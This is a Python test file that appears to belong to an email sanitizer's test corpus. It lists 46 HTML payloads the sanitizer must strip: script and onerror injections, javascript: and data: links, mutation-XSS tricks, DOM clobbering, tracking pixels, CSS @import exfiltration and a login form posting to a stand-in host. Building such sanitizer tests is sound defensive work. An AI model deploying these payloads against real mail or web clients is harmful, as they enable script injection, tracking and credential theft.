"""Class 9: pages that want to run, load, overlay or send something (46). The desk reads their words and nothing else happens."""

from __future__ import annotations

from tests.channels_app.corpus import mail
from tests.corpus.case import Mail

WORDS = "Gewone vraag"
OUTSIDE = "spoor.example"
"""No page may ask anything of this host."""


def page(name: str, html: str, *more_absent: str) -> Mail:
    raw = mail(f"<p>{WORDS}</p>{html}", kind="text/html; charset=utf-8")
    return Mail(name, "A", raw, text=WORDS, absent=("<script", "onerror=", *more_absent), files=())


def gone(name: str, html: str) -> Mail:
    """Nothing of it is left, not even the address."""
    return page(name, html, OUTSIDE, "alert(")


U = f"https://{OUTSIDE}"

CASES = [
    gone("script", "<script>alert(1)</script>"),
    gone("script-from-outside", f'<script src="{U}/x.js"></script>'),
    gone("script-unclosed", "<script>alert(1)"),
    page("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    gone("script-in-capitals-with-slash", f"<SCRIPT/x src={U}/x.js></SCRIPT>"),
    gone("img-onerror", '<img src=x onerror="alert(1)">'),
    Mail("img-onerror-unclosed", "A", mail(f"<p>{WORDS}</p><img src=x onerror=alert(1)//", kind="text/html"), text=WORDS, files=(), more={"escaped": "&lt;img src=x onerror=alert(1)//"}),
    gone("body-onload", '<body onload="alert(1)">'),
    gone("svg-onload", '<svg onload="alert(1)"><circle/></svg>'),
    gone("svg-script", f'<svg><script href="{U}/x.js"/></svg>'),
    gone("svg-animate", '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>'),
    gone("svg-use", f'<svg><use href="{U}/x.svg#a"/></svg>'),
    gone("svg-foreign-object", '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>'),
    gone("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    gone("math-mxss", '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>"></table></math>'),
    gone("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    gone("template-mxss", '<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>'),
    gone("style-mxss", '<style><img title="</style><img src=x onerror=alert(1)>"></style>'),
    page("comment-mxss", '<!--><img src=x onerror="1">-->', OUTSIDE),
    gone("conditional-comment", f"<!--[if gte IE 4]><script src={U}/x.js></script><![endif]-->"),
    gone("cdata", "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>"),
    gone("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    gone("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    gone("iframe-outside", f'<iframe src="{U}"></iframe>'),
    gone("object", f'<object data="{U}/x.swf"></object>'),
    gone("embed", f'<embed src="{U}/x.swf">'),
    gone("link-javascript", '<a href="javascript:alert(1)">klik</a>'),
    gone("link-javascript-with-tab", '<a href="java\tscript:alert(1)">klik</a>'),
    gone("link-javascript-encoded", '<a href="&#106;avascript:alert(1)">klik</a>'),
    gone("link-data", '<a href="data:text/html,<script>alert(1)</script>">klik</a>'),
    gone("link-vbscript", '<a href="vbscript:alert(1)">klik</a>'),
    gone("base", f'<base href="{U}/">'),
    gone("meta-refresh", f'<meta http-equiv="refresh" content="0;url={U}">'),
    gone("tracking-picture", f'<img src="{U}/x.gif" width=1 height=1>'),
    gone("picture-srcset", f'<img srcset="{U}/a.png 1x, {U}/b.png 2x">'),
    gone("background", f'<table background="{U}/x.png"><tr><td>x</table>'),
    gone("css-background", f'<div style="background:url({U}/x.png)">x</div>'),
    gone("css-import", f'<style>@import "{U}/x.css"; input[value^=a]{{background:url({U}/a)}}</style>'),
    gone("css-overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>'),
    gone("stylesheet-from-outside", f'<link rel="stylesheet" href="{U}/x.css">'),
    gone("video-and-audio", f'<video src="{U}/x.mp4" poster="{U}/x.png" autoplay></video><audio src="{U}/x.mp3" autoplay></audio>'),
    gone("form", f'<form action="{U}"><input name=wachtwoord><button formaction="{U}/b">Log in</button></form>'),
    gone("htmx", f'<div hx-get="{U}" hx-trigger="load">x</div><div data-hx-post="{U}">x</div>'),
    gone("dom-clobbering", '<a id="htmx"></a><form name="config"><input name="allowEval"></form>'),
    gone("hidden-text", f'<span style="display:none">{U}</span><span style="font-size:0">alert(1)</span>'),
    Mail("plain-text-with-markup", "A", mail(f"{WORDS}\n<script>alert(1)</script><img src={U}/x.gif onerror=alert(1)>"), text=f"{WORDS}\n<script>alert(1)</script>", files=(), more={"escaped": "&lt;script&gt;alert(1)"}),
]  # fmt: skip
